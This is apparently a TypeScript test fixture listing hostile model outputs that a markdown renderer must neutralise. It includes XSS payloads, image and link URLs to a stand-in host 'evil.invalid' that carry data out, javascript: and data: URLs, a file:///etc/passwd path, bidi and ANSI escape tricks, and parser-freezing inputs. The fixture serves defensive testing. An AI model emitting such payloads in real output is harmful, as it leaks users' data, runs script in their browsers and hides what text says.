// Outputs that would carry data away, run, freeze the page or hide what they say: families of what a model could write, each with every
// payload that belongs into it.

const host = 'https://evil.invalid';

const addresses = [
  ...[`${host}/?q=secret`, '//evil.invalid/x', 'http://evil.invalid:81/a', 'https://xn--80ak6aa92e.invalid/'],
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(2)', 'java\tscript:alert(3)', '&#106;avascript:alert(4)'],
  ...['data:text/html,<script>alert(5)</script>', 'data:image/svg+xml,<svg onload=alert(6)>', 'vbscript:x'],
  ...[
    'blob:https://evil.invalid/x',
    'file:///etc/passwd',
    'ftp://evil.invalid/x',
    '/v1/x/session',
    '\\\\evil.invalid\\x',
  ],
];

const elements = [
  `<img src="${host}/x" onerror="alert(1)">`,
  `<img srcset="${host}/x 1x" src=x onerror=alert(1)>`,
  `<script>alert(1)</script>`,
  `<script src="${host}/x.js"></script>`,
  `<svg onload="alert(1)"><use href="${host}/a#b"/></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<iframe src="${host}" srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${host}/x"></object><embed src="${host}/x">`,
  `<form action="${host}"><input name=q autofocus onfocus=alert(1)><button>x</button></form>`,
  `<style>@import "${host}/x.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="${host}/x.css"><base href="${host}/">`,
  `<meta http-equiv="refresh" content="0; url=${host}">`,
  `<video autoplay src="${host}/v"></video><audio src="${host}/a" autoplay></audio>`,
  `<a href="javascript:alert(1)" ping="${host}/p">x</a>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<body onload=alert(1) background="${host}/b">`,
  `<div style="background: url(${host}/d)">x</div>`,
  `<!--><img src=${host}/c>-->`,
  `<template><img src=${host}/t></template><noscript><img src=${host}/n></noscript>`,
];

const around: readonly ((inside: string) => string)[] = [
  (inside) => inside,
  (inside) => `> - ${inside}`,
  (inside) => `| a | b |\n|---|---|\n| ${inside} | x |\n`,
  (inside) => `# ${inside}\n===`,
  (inside) => `**_~~${inside}`,
];

const references: readonly ((address: string) => string)[] = [
  (address) => `![x](${address}) ![y](<${address}> "t")`,
  (address) => `[x](${address}) <${address}>`,
  (address) => `[r]: ${address}\n\n![r][r] [r] ![r]\n`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x][r] ![y][r]\n\n- a\n\n[r]: <${address}> 't'`,
];

const formulas = [
  String.raw`$$\href{javascript:alert(1)}{x} \includegraphics{https://evil.invalid/f}$$`,
  String.raw`$$\def\a{\a\a}\a$$ $\url{https://evil.invalid}$`,
  String.raw`\[ \htmlData{x=1}{y} \class{z}{w} \style{position:fixed}{v}`,
  `$${'{'.repeat(2000)}`,
  String.raw`$$\begin{array}{${'c'.repeat(500)}}`,
];

const controls = [
  '\u001b[31mred\u001b]8;;https://evil.invalid\u0007link\u001b]8;;\u0007',
  '\u202egnp.exe\u202c `\u2066code\u2069` [\u202ex](https://evil.invalid)',
  'a\u200bb\u200cc\u200dd\ufeffe \u0000\u0008\u007f',
  '\u001b]0;title\u0007\u001b[2J\u001b[1;1H\u009b31m',
  '\udc00\ud800 lone \ud83d',
];

/** One character at a time these are long enough. */
const large = [
  ...['>', '- ', '* ', '1. ', '[', '![', '(', '`', '*', '_', '~', '|', '#', '<', '&', '\\', '$'].map((part) =>
    part.repeat(600),
  ),
  ...[
    `${'a'.repeat(2000)}\n`,
    `${'|x'.repeat(500)}\n${'|-'.repeat(500)}\n`,
    '\n'.repeat(2000),
    '\t'.repeat(600),
  ],
];

const halfOpen = [
  ...[
    '```html\n<script>alert(1)</script>',
    '~~~\n',
    '[x](',
    '[x]: ',
    '![',
    '**a *b',
    '| a |\n|--',
    '<!--',
    '<![CDATA[',
  ],
  ...[
    '<script',
    '`a',
    '1. a\n   ```\n   <b>',
    '> ```\n> <img src=https://evil.invalid/q>',
    '<https://evil.invalid/',
  ],
];

export const hostileOutputs: readonly string[] = [
  ...references.flatMap((reference) => addresses.map(reference)),
  ...around.flatMap((wrap) => elements.map(wrap)),
  ...[formulas, controls, large, halfOpen].flat(),
];
